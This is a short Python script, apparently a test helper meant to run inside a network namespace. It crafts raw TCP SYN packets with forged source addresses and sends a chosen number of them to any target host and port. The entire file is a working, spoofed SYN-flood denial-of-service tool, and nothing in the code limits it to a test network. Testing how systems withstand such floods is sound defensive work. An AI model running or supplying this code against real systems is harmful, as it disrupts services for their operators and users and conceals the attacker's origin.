# SPDX-License-Identifier: Apache-2.0
"""SYNs from many made-up addresses, as a program of its own in a namespace: syn_flood.py SOURCE_NET TARGET PORT COUNT GAP_US

SOURCE_NET: three bytes of the sources, "10.77.9"; nobody has them, so that no answer is ever acknowledged."""
import socket
import struct
import sys
import time

from checksum import folded


def syn(source, target, source_port, port, number):
    options = struct.pack(">BBHBBBBBBBB", 2, 4, 1460, 1, 3, 3, 7, 1, 1, 4, 2)[:12]  # MSS, window scale, SACK permitted
    header = struct.pack(">HHIIBBHHH", source_port, port, number, 0, 8 << 4, 2, 64240, 0, 0) + options
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(header))
    header = header[:16] + struct.pack(">H", folded(pseudo + header)) + header[18:]
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(header), source_port, 0x4000, 64, 6, 0) + source + target
    return ip[:10] + struct.pack(">H", folded(ip)) + ip[12:] + header


def main(net, target, port, count, gap_us):
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        source = socket.inet_aton(f"{net}.{1 + i % 250}")
        out.sendto(syn(source, socket.inet_aton(target), 1024 + i, port, 1_000_000 + 7919 * i), (target, 0))
        time.sleep(gap_us / 1e6)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6]))
